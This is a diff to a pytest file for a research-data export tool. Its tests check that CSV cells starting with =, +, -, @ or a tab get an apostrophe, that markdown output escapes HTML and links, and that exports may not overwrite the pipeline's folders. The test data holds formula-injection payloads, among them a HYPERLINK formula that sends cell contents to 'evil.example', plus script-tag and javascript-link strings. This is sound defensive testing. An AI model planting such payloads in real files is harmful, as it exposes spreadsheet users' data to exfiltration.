@@ -7,18 +7,21 @@ import time
 import zipfile
 from pathlib import Path
 
+import pandas as pd
 import pytest
-from conftest import snapshot_dir
+from conftest import snapshot_dir, tree_digest
 
 from techgap import cli
 from techgap.config import load_project, load_yaml
+from techgap.escaping import spreadsheet_cell
 from techgap.export import UTF8_BOM, data_terms_table, find_item_tables
+from techgap.io import write_csv
 
 ITEM_CSV = (
     "entity_code,entity,entity_zh,indicator,period,value,unit,label\n"
     "CHN,China,中國,gerd_pct_gdp,2021,2.43,% of GDP,\n"
     "NAM,Namibia,納米比亞,gerd_pct_gdp,2022,0.5,% of GDP,NA\n"
-    'USA,United States,美國,gerd_pct_gdp,2023Q3,3.46,% of GDP,=HYPERLINK("http://x")\n'
+    'USA,United States,美國,gerd_pct_gdp,2023Q3,3.46,% of GDP,"=HYPERLINK(""http://x"")"\n'
 )
 
 
@@ -110,7 +113,11 @@ def test_csv_export_is_utf8_with_bom_and_otherwise_the_same_bytes(project_root, 
     assert sorted(p.name for p in out.iterdir()) == ["fig01_latest.csv", "fig01_report.csv", "sources.csv", "tab02.csv"]
     data = (out / "fig01_report.csv").read_bytes()
     assert data.startswith(UTF8_BOM)
-    assert data[len(UTF8_BOM) :].decode("utf-8") == planted["report/fig01/fig01.csv"]
+    planted_csv = planted["report/fig01/fig01.csv"]
+    assert planted_csv.count('"=HYPERLINK(') == 1
+    expected = planted_csv.replace('"=HYPERLINK(', "\"'=HYPERLINK(")
+    assert data[len(UTF8_BOM) :].decode("utf-8") == expected, "the same bytes but for the formula's apostrophe"
+    assert (out / "tab02.csv").read_bytes() == UTF8_BOM + planted["tab02/tab02.csv"].encode("utf-8")
     assert (out / "sources.csv").read_bytes().startswith(UTF8_BOM)
     assert "中國" in (out / "fig01_report.csv").read_text(encoding="utf-8-sig")
 
@@ -128,13 +135,13 @@ def test_data_terms_lists_each_source_once_with_its_licence(project_root):
     provenance = folder / "provenance.yaml"
     text = provenance.read_text(encoding="utf-8")
     licence = load_yaml(provenance)["licence"]
-    provenance.write_text(text.replace(licence, "Terms A | terms B", 1), encoding="utf-8")
+    provenance.write_text(text.replace(licence, "Terms A | terms B <script>x</script> [y](javascript:z)", 1), encoding="utf-8")
 
     table = data_terms_table(load_project(project_root)).splitlines()
     body = table[2:]
     assert len(body) == len(load_project(project_root).sources_with_vintages())
     isscc = next(line for line in body if line.startswith("| isscc |"))
-    assert "Terms A \\| terms B" in isscc
+    assert "Terms A \\| terms B \\<script>x\\</script> [y\\](javascript:z)" in isscc  # text, not HTML or a link
     assert all(line.count(" | ") == 3 for line in body)  # the escaped pipe does not add a column
 
 
@@ -143,3 +150,181 @@ def test_data_terms_licence_matches_provenance(project_root, source_id):
     licence = load_yaml(snapshot_dir(project_root, source_id) / "provenance.yaml")["licence"]
     row = next(line for line in data_terms_table(load_project(project_root)).splitlines() if line.startswith(f"| {source_id} |"))
     assert licence.replace("|", "\\|").replace("\n", " ") in row
+
+
+# --- cells a spreadsheet would run ---------------------------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "@SUM(1+1)",
+    "+1+1",
+    "-1+A1",
+    "=1+1",
+    "\t=1+1",
+    "-",
+    "-inf",
+]
+NUMBERS = ["-3.5", "-0", "0", "+1", "1e-05", "-2.5E+10", ".5", "12"]
+TEXT = ["中國", "R&D, 50%", 'say "hi"', "a=b", "NA", ""]
+
+
+@pytest.mark.parametrize("cell", [*FORMULAS, "\r=1+1"])  # a CR is no cell of the pipeline's CSVs: its writer would not quote it
+def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe(cell: str) -> None:
+    assert spreadsheet_cell(cell) == "'" + cell
+
+
+@pytest.mark.parametrize("cell", NUMBERS + TEXT)
+def test_numbers_and_ordinary_text_are_left_as_they_are(cell: str) -> None:
+    assert spreadsheet_cell(cell) == cell
+
+
+def _hostile_item(root: Path) -> pd.DataFrame:
+    """fig01's data as the pipeline writes it (techgap.io.write_csv), with labels a spreadsheet would run
+    and negative numbers, -0 among them."""
+    labels = FORMULAS + TEXT
+    frame = pd.DataFrame(
+        {
+            "entity_code": ["CHN"] * len(labels),
+            "value": [-3.5, -0.0, 1e-05, 2.43, -150.0, 0.0, 12.0, 0.5, -2.0, 7.0, 8.0, 9.0, 10.0, 11.0],
+            "label": labels,
+        }
+    )
+    write_csv(root / "figures" / "report" / "fig01" / "fig01.csv", frame)
+    return frame
+
+
+def test_csv_export_neutralises_every_cell_a_spreadsheet_would_run(project_root, tmp_path):
+    import csv
+
+    frame = _hostile_item(project_root)
+    provenance = snapshot_dir(project_root, "isscc") / "provenance.yaml"
+    text = provenance.read_text(encoding="utf-8")
+    title = load_yaml(provenance)["title"]
+    provenance.write_text(text.replace(f"title: {title}\n", "title: '@SUM(1+1)'\n", 1), encoding="utf-8")
+    out = tmp_path / "csv"
+    assert _export(project_root, "--csv-dir", out) == 0
+
+    with open(project_root / "figures" / "report" / "fig01" / "fig01.csv", encoding="utf-8", newline="") as handle:
+        item = list(csv.reader(handle))
+    assert [row[1] for row in item[1:4]] == ["-3.5", "-0", "1e-05"]  # as the pipeline writes negative numbers
+    with open(out / "fig01_report.csv", encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.reader(handle))
+    assert rows[0] == ["entity_code", "value", "label"]
+    assert [row[2] for row in rows[1:]] == ["'" + cell for cell in FORMULAS] + TEXT
+    assert [row[1] for row in rows] == [row[1] for row in item], "numbers, negative ones and -0 included, stay numbers"
+    assert len(rows) - 1 == len(frame)
+    with open(out / "sources.csv", encoding="utf-8-sig", newline="") as handle:
+        sources = {row["source"]: row for row in csv.DictReader(handle)}
+    assert sources["isscc"]["title"] == "'@SUM(1+1)"
+    for path in out.iterdir():  # no cell of any exported CSV starts a formula, unless it is a number
+        with open(path, encoding="utf-8-sig", newline="") as handle:
+            for row in csv.reader(handle):
+                for cell in row:
+                    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or spreadsheet_cell(cell) == cell, (path, cell)
+
+
+def test_workbook_stores_formula_like_text_as_text(project_root, tmp_path):
+    """In a workbook a text cell is typed: it never runs. The workbook keeps the text as it is, without
+    the CSVs' apostrophe, and has no formula at all."""
+    import openpyxl
+
+    _hostile_item(project_root)
+    target = tmp_path / "techgap.xlsx"
+    assert _export(project_root, "--xlsx", target) == 0
+    with zipfile.ZipFile(target) as archive:
+        sheets = [archive.read(name).decode("utf-8") for name in archive.namelist() if name.startswith("xl/worksheets/")]
+    assert sheets and not any("<f>" in sheet or "<f " in sheet for sheet in sheets)
+    cells = list(openpyxl.load_workbook(target)["fig01_report"].iter_rows(min_row=2))
+    labels = [row[2] for row in cells]
+    assert [cell.value for cell in labels[: len(FORMULAS)]] == FORMULAS
+    assert {cell.data_type for cell in labels[: len(FORMULAS)]} == {"s"}
+    assert [row[1].value for row in cells[:2]] == [-3.5, 0]
+
+
+# --- where exports may go ------------------------------------------------------------------------
+
+
+def _symlink(link: Path, target: Path) -> Path:
+    link.symlink_to(target)
+    return link
+
+
+REFUSED = {
+    "xlsx_over_the_manifest": (lambda root, tmp: ["--xlsx", "figures/manifest.json"], "inside figures/"),
+    "xlsx_in_data": (lambda root, tmp: ["--xlsx", root / "data" / "techgap.xlsx"], "inside data/"),
+    "xlsx_dot_dot_into_figures": (lambda root, tmp: ["--xlsx", root / "config" / ".." / "figures" / "t.xlsx"], "inside figures/"),
+    "xlsx_symlink_to_the_manifest": (
+        lambda root, tmp: ["--xlsx", _symlink(tmp / "t.xlsx", root / "figures" / "manifest.json")],
+        "inside figures/",
+    ),
+    "xlsx_in_a_symlinked_folder": (
+        lambda root, tmp: ["--xlsx", _symlink(tmp / "out", root / "figures") / "t.xlsx"],
+        "inside figures/",
+    ),
+    "xlsx_not_a_workbook_name": (lambda root, tmp: ["--xlsx", tmp / "README.md"], "does not end in .xlsx"),
+    "xlsx_is_a_folder": (lambda root, tmp: ["--xlsx", _mkdir(tmp / "book.xlsx")], "is a folder"),
+    "csv_dir_among_the_outputs": (lambda root, tmp: ["--csv-dir", "figures/report/fig01"], "inside figures/"),
+    "csv_dir_new_folder_in_figures": (lambda root, tmp: ["--csv-dir", root / "figures" / "export"], "inside figures/"),
+    "csv_dir_new_folder_in_data": (lambda root, tmp: ["--csv-dir", root / "data" / "export"], "inside data/"),
+    "csv_dir_in_a_symlinked_folder": (
+        lambda root, tmp: ["--csv-dir", _symlink(tmp / "out", root / "data") / "csv"],
+        "inside data/",
+    ),
+    "csv_dir_not_empty": (lambda root, tmp: ["--csv-dir", _mkdir(tmp / "full", "keep.txt")], "already exists and is not empty"),
+    "csv_dir_is_a_file": (lambda root, tmp: ["--csv-dir", _mkdir(tmp / "full", "keep.txt") / "keep.txt"], "is a file"),
+    "xlsx_inside_the_new_csv_dir": (
+        lambda root, tmp: ["--xlsx", tmp / "csv" / "t.xlsx", "--csv-dir", tmp / "csv"],
+        "inside --csv-dir",
+    ),
+    "good_xlsx_with_a_bad_csv_dir": (
+        lambda root, tmp: ["--xlsx", tmp / "t.xlsx", "--csv-dir", root / "figures" / "report"],
+        "inside figures/",
+    ),
+}
+
+
+def _mkdir(folder: Path, *files: str) -> Path:
+    folder.mkdir(parents=True)
+    for name in files:
+        (folder / name).write_text("mine\n", encoding="utf-8")
+    return folder
+
+
+@pytest.mark.parametrize("case", list(REFUSED))
+def test_export_to_the_pipelines_folders_or_over_other_files_is_refused(case, project_root, tmp_path, monkeypatch, capsys):
+    """`--xlsx figures/manifest.json` replaced the manifest (and the next snakemake had nothing to do);
+    `--csv-dir figures/report/fig01` put 59 CSVs among the outputs. Each is refused with one line that
+    says what is allowed, and nothing under figures/, data/ or the refused folder changes."""
+    _plant_figures(project_root)
+    (project_root / "figures" / "manifest.json").write_text('{"items": []}\n', encoding="utf-8")
+    monkeypatch.chdir(project_root)  # the issue's commands are typed in the project folder
+    options, message = REFUSED[case]
+    options = options(project_root, tmp_path)
+    before = tree_digest(project_root / "figures", project_root / "data", tmp_path)
+    capsys.readouterr()
+
+    assert _export(project_root, *options) == 2
+    err = capsys.readouterr().err
+    assert message in err
+    lines = [line for line in err.splitlines() if line.strip()]
+    assert len(lines) == 1 and lines[0].startswith("error: export: "), err
+    assert "outside the project's figures/ and data/" in lines[0], "the error says what is allowed"
+    assert tree_digest(project_root / "figures", project_root / "data", tmp_path) == before
+
+
+def test_export_to_new_or_empty_folders_and_xlsx_files_outside_is_allowed(project_root, tmp_path, monkeypatch):
+    import openpyxl
+
+    _plant_figures(project_root)
+    workbook = tmp_path / "techgap.xlsx"
+    workbook.write_bytes(b"an earlier export")  # a workbook outside is replaced
+    empty = _mkdir(tmp_path / "empty")
+    assert _export(project_root, "--xlsx", workbook, "--csv-dir", empty) == 0
+    assert openpyxl.load_workbook(workbook).sheetnames[-1] == "sources"
+    assert (empty / "sources.csv").is_file()
+    assert _export(project_root, "--csv-dir", tmp_path / "new" / "nested" / "csv") == 0
+    assert (tmp_path / "new" / "nested" / "csv" / "fig01_report.csv").is_file()
+    monkeypatch.chdir(tmp_path)  # relative paths are taken from where the command is typed
+    assert _export(project_root, "--xlsx", "relative.xlsx", "--csv-dir", "relative") == 0
+    assert (tmp_path / "relative.xlsx").is_file() and (tmp_path / "relative" / "tab02.csv").is_file()
+    assert _export(project_root, "--csv-dir", "relative") == 2, "a second export into the same folder is refused"
